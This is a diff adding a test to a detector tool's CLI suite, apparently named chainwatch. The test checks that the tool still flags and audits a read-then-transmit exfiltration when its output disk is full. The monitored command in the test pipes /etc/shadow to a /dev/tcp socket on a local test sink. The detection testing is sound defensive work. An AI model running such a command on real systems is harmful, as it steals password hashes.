@@ -6,6 +6,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { Event } from '../schema/event.js';
 import { TraceHeader } from '../schema/trace-header.js';
 import { tcpSink } from '../testing/live-harness.js';
+import { SmallDisk } from '../testing/small-disk.js';
 
 const CLI = join(import.meta.dirname, '../../dist/src/cli/main.js');
 let sink: Awaited<ReturnType<typeof tcpSink>>;
@@ -65,6 +66,26 @@ describe('chainwatch watch (the real binary)', () => {
     expect(lines(events).length).toBeGreaterThan(first.events.length);
     expect(lines(join(dir, 'run.1.trace.jsonl'))).toEqual(first.trace);
     expect(TraceHeader.parse(JSON.parse(lines(trace)[0]!)).start_time).not.toBe(TraceHeader.parse(JSON.parse(first.trace[0]!)).start_time);
+  });
+
+  it('--events and --record on a full disk: the watch goes on, the finding still comes out and is audited, exit 6 names both files and the counts', () => {
+    const disk = new SmallDisk(256 * 1024);
+    try {
+      disk.fill(0);
+      const [events, trace] = ['events.jsonl', 'run.trace.jsonl'].map((f) => join(disk.dir, f)) as [string, string];
+      const audit = mkdtempSync(join(tmpdir(), 'cw-cli-audit-'));
+      const r = cli(['watch', '--findings', '-', '--events', events, '--record', trace, '--audit', audit, '--', 'bash', '-c', `cat /etc/shadow > /dev/tcp/127.0.0.2/${sink.port}`]);
+      expect(r.status, r.stderr).toBe(6);
+      expect(r.stdout.split('\n').filter(Boolean).map((l) => (JSON.parse(l) as { rule: string }).rule)).toContain('exfil.read-then-transmit');
+      expect(r.stderr).toMatch(new RegExp(`chainwatch: could not write .*${events} \\(ENOSPC; \\d+ lines not written\\)`));
+      expect(r.stderr).toMatch(new RegExp(`${trace} \\(.*; \\d+ lines not written\\)`));
+      expect(r.stderr).not.toMatch(/\n\s+at /);
+      const records = readFileSync(join(audit, 'audit-000001.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { type: string; source?: string; finding?: { rule: string } });
+      expect(records.filter((x) => x.type === 'loss').map((x) => x.source).sort()).toEqual([`output:${events}`, `output:${trace}`].sort());
+      expect(records.some((x) => x.type === 'finding' && x.finding!.rule === 'exfil.read-then-transmit')).toBe(true);
+    } finally {
+      disk.unmount();
+    }
   });
 
   it('--record-rotate: segments of about the size asked, each starting with the state; replayed in order they give what the watch found live, a later one alone knows every process', async () => {
